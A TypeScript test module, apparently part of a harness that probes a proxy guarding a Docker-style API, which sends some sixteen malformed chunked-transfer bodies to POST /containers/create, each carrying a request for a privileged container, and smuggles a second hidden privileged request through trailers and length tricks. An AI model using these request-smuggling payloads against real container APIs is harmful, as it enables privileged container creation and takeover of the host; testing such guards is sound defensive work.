import { type Attempt, container, each, privileged, request, v } from './book';

export const attempt: Attempt = {
  title: 'write chunks whose size is read in more than one way',
  source: 'request smuggling by chunks: extensions, signs, lengths beyond integers',
  async try(world) {
    const body = JSON.stringify(container(world, { HostConfig: { Privileged: true } }));
    const size = Buffer.byteLength(body).toString(16);
    const hidden = privileged(world).toString('latin1');
    return each(
      [`${size};x=y\r\n${body}\r\n0\r\n\r\n`, `0x${size}\r\n${body}\r\n0\r\n\r\n`, `-1\r\n${body}\r\n0\r\n\r\n`,
        `+${size}\r\n${body}\r\n0\r\n\r\n`, `FFFFFFFFFFFFFFFF${size}\r\n${body}\r\n0\r\n\r\n`, `${size}\n${body}\n0\n\n`,
        `${size}\r${body}\r0\r\r`, ` ${size}\r\n${body}\r\n0\r\n\r\n`, `${size} \r\n${body}\r\n0\r\n\r\n`, `${size}\r\n${body}XX0\r\n\r\n`,
        `1g\r\n${body}\r\n0\r\n\r\n`,
        `0${size}\r\n${body}\r\n0\r\nContent-Length: 5\r\nHost: x\r\n\r\n`, `0;\n${hidden}\r\n\r\n`,
          `2;${'x'.repeat(70_000)}\r\n{}\r\n0\r\n\r\n`, `5\r\n{}`, `2\r\n{}\r\n0\r\nX: y\r\n${hidden}`],
      (chunks) => world.send(request(`POST ${v}/containers/create HTTP/1.1`, [`Host: ${world.address}`, 'Content-Type: application/json',
        'Transfer-Encoding: chunked', 'Connection: close'], chunks), undefined, true),
    );
  },
};
